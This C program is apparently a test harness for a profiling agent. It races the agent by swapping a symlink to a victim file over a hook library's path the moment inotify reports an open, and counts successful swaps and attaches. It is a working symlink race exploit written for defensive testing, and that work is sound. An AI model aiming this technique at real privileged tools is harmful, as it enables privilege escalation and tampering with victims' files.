// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* Attack workload, run as an unprivileged user: maps a hook library from a directory it owns
 * and, the moment inotify reports that someone (the agent) opened it, renames a symlink to a
 * victim file over the library's path, hoping the agent attaches by path after that.
 * Usage: hook_swapper DIR SRC_LIB VICTIM ITERATIONS; waits for a byte on stdin before starting.
 * Prints "swapped I" and "attached I" per iteration, then "done swapped S attached A". */
#define _GNU_SOURCE
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <time.h>
#include <unistd.h>

typedef int (*active_fn)(void);

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A fresh inode at dst: copy src to a temporary name, then rename it into place. */
static int fresh_copy(const char *src, const char *dst, const char *tmp)
{
	char buf[65536];
	int in = open(src, O_RDONLY), out = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
	ssize_t n;

	if (in < 0 || out < 0)
		return -1;
	while ((n = read(in, buf, sizeof(buf))) > 0)
		if (write(out, buf, n) != n)
			return -1;
	close(in);
	close(out);
	return rename(tmp, dst);
}

/* Spins on the inotify fd (no wake-up latency) until an open is seen, then swaps. */
static int swap_on_open(int ino, const char *evil, const char *lib, double deadline)
{
	char ev[4096] __attribute__((aligned(8)));

	while (now_s() < deadline) {
		if (read(ino, ev, sizeof(ev)) > 0)
			return rename(evil, lib) ? -1 : 1;
	}
	return 0;
}

static int wait_active(active_fn active, double deadline)
{
	while (now_s() < deadline) {
		if (active())
			return 1;
		usleep(2000);
	}
	return 0;
}

static int iteration(const char *dir, const char *src, const char *victim, int i, int *swapped)
{
	char lib[4096], tmp[4096], evil[4096];
	active_fn active;
	int ino, attached;
	void *h;

	snprintf(lib, sizeof(lib), "%s/lib.so", dir);
	snprintf(tmp, sizeof(tmp), "%s/lib.so.tmp", dir);
	snprintf(evil, sizeof(evil), "%s/evil", dir);
	unlink(evil);
	if (fresh_copy(src, lib, tmp) || symlink(victim, evil))
		return -1;
	h = dlopen(lib, RTLD_NOW | RTLD_LOCAL);
	active = h ? (active_fn)dlsym(h, "spanprof_active") : NULL;
	ino = inotify_init1(IN_NONBLOCK | IN_CLOEXEC);
	if (!active || ino < 0 || inotify_add_watch(ino, lib, IN_OPEN) < 0)
		return -1;
	*swapped = swap_on_open(ino, evil, lib, now_s() + 3);
	if (*swapped > 0)
		printf("swapped %d\n", i);
	attached = wait_active(active, now_s() + 2);
	if (attached)
		printf("attached %d\n", i);
	fflush(stdout);
	close(ino);
	dlclose(h);
	return attached;
}

int main(int argc, char **argv)
{
	int i, n, swapped, total_swapped = 0, total_attached = 0, r;
	char go;

	if (argc != 5)
		return 2;
	n = atoi(argv[4]);
	if (read(0, &go, 1) != 1)
		return 2;
	for (i = 0; i < n; i++) {
		swapped = 0;
		r = iteration(argv[1], argv[2], argv[3], i, &swapped);
		if (r < 0) {
			printf("error %d: %s\n", i, strerror(errno));
			return 1;
		}
		total_swapped += swapped > 0;
		total_attached += r;
	}
	printf("done swapped %d attached %d\n", total_swapped, total_attached);
	return 0;
}
